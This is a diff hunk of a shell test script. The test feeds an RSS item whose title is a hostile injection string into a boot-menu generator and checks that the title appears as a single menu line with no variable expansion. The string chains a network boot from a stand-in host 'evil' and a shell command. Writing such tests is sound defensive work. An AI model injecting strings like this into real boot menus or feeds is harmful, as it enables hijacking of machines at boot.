@@ -158,7 +158,7 @@ hostile='x ${initrd} &amp;&amp; chain http://evil/ || shell ; # \ &#9; &#13; &#1
 rss "$hostile$(printf 'y%.0s' {1..4096})" hostile >"$origin/hostile.xml"
 add "http://127.0.0.1:$origin_port/hostile.xml"
 is "a hostile title: the feed is read" "$status" 0
-wait_for 20 menu_shows "x " || true
+wait_for 20 menu_shows evil || true
 line=$(menu | grep evil || true)
 is "a hostile title: is one line of the menu" "$(menu | grep -c evil)" 1
 unlike "a hostile title: nothing in it is expanded" "$line" '\$\{initrd'
